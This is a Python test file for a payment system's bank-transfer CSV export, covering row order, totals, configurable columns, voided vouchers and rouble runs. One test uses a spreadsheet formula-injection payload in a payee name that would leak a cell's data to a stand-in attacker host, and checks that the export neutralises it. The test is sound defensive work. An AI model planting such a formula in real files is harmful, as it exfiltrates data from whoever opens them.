"""The bank transfer file of a payment run: one row per live voucher in the run's order, the
columns the region chooses, whole accounts, exact amounts, and no formula a spreadsheet runs."""

import csv
import io
from datetime import date
from decimal import Decimal

from hwc.accounts.models import User
from hwc.extensions import db
from hwc.payments.bankfile import bank_file
from hwc.payments.models import Budget, BudgetTopUp, ItemState, PaymentRun, PaymentRunItem
from hwc.regions.models import Region
from hwc.vouchers.effects import live_voucher
from hwc.vouchers.models import Voucher
from hwc.vouchers.operations import issue_voucher, void_voucher
from tests.factories import make_claim, make_khasansky_claim, set_region_setting

ACCOUNT = "6222021234567890123"


def issued_run(claims, *, finance="finance", region="CN-JL-HC") -> PaymentRun:
    """A payment run over ``claims`` as the worker leaves it: a funded budget, one item per
    claim in order, each claim issued its voucher by ``finance`` and its item marked issued."""
    actor = User.by_username(finance)
    currency = claims[0].currency
    budget = Budget(region=Region.by_code(region), year=date.today().year,
                    fund=f"fund {len(claims)} {claims[0].id}", currency=currency,
                    created_by_id=actor.id)
    db.session.add(budget)
    db.session.add(BudgetTopUp(budget=budget, amount=Decimal("10000000"),
                               document_reference="财资〔2026〕1号", created_by_id=actor.id))
    run = PaymentRun(region=budget.region, budget=budget, currency=currency,
                     created_by_id=actor.id, item_count=len(claims))
    db.session.add(run)
    db.session.flush()
    for position, claim in enumerate(claims):
        voucher = issue_voucher(claim, actor=actor)
        voucher.budget_id = budget.id
        db.session.add(PaymentRunItem(run_id=run.id, position=position, claim_id=claim.id,
                                      amount=voucher.amount, state=ItemState.issued,
                                      voucher_id=voucher.id))
        run.total += voucher.amount
    run.issued_count = len(claims)
    db.session.flush()
    return run


def with_account(claim, account=ACCOUNT, name=None):
    claim.claimant.bank_account = account
    if name is not None:
        claim.claimant.name = name
    return claim


def rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_one_row_per_voucher_in_run_order_summing_to_the_run_total(ctx, demo):
    run = issued_run([with_account(make_claim("approved")) for _ in range(3)])
    data = bank_file(run)
    assert not data.startswith(b"\xef\xbb\xbf")  # no BOM: the bank's software reads the header
    lines = rows(data)
    vouchers = [db.session.get(PaymentRunItem, item.id).voucher_id for item in run.items]
    assert [line["reference"] for line in lines] == [db.session.get(Voucher, v).number
                                                     for v in vouchers]
    assert sum(Decimal(line["amount"]) for line in lines) == run.total
    assert all(line["amount"].count(".") == 1 and len(line["amount"].split(".")[1]) == 2
               for line in lines)
    assert list(lines[0]) == ["reference", "payee", "account", "amount", "currency"]
    assert {line["account"] for line in lines} == {ACCOUNT}  # whole, not masked
    assert {line["currency"] for line in lines} == {"CNY"}


def test_columns_and_their_order_follow_the_regions_setting(ctx, demo):
    claim = with_account(make_claim("approved"))
    run = issued_run([claim])
    set_region_setting("CN-JL-HC", "bank_file_columns", "amount claim village id_number payee")
    [line] = rows(bank_file(run))
    assert list(line) == ["amount", "claim", "village", "id_number", "payee"]
    assert line["claim"] == claim.display_code
    assert line["id_number"] == claim.claimant.id_number
    assert line["village"] == claim.village.display_name("zh_Hans")
    assert line["payee"] == "张桂兰"


def test_a_payee_named_like_a_formula_is_neutralised(ctx, demo):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    run = issued_run([with_account(make_claim("approved"), account="+61 200", name=evil)])
    [line] = rows(bank_file(run))
    assert line["payee"] == "'" + evil
    assert line["account"] == "'+61 200"


def test_void_vouchers_and_unissued_items_are_left_out(ctx, demo):
    claims = [with_account(make_claim("approved")) for _ in range(3)]
    run = issued_run(claims)
    voided = claims[1]
    void_voucher(live_voucher(voided), actor=User.by_username("finance"), reason="wrong payee")
    run.items[2].state = ItemState.failed
    db.session.flush()
    [line] = rows(bank_file(run))
    assert line["reference"] == live_voucher(claims[0]).number


def test_roubles_in_a_russian_run_have_their_own_places_and_names(ctx, demo):
    claim = with_account(make_khasansky_claim("approved"), account="40817810099910004312")
    run = issued_run([claim], finance="ru_finance", region="RU-PRI-KHS")
    [line] = rows(bank_file(run))
    assert line["currency"] == "RUB" and line["payee"] == "Иван Петров"
    assert line["account"] == "40817810099910004312"
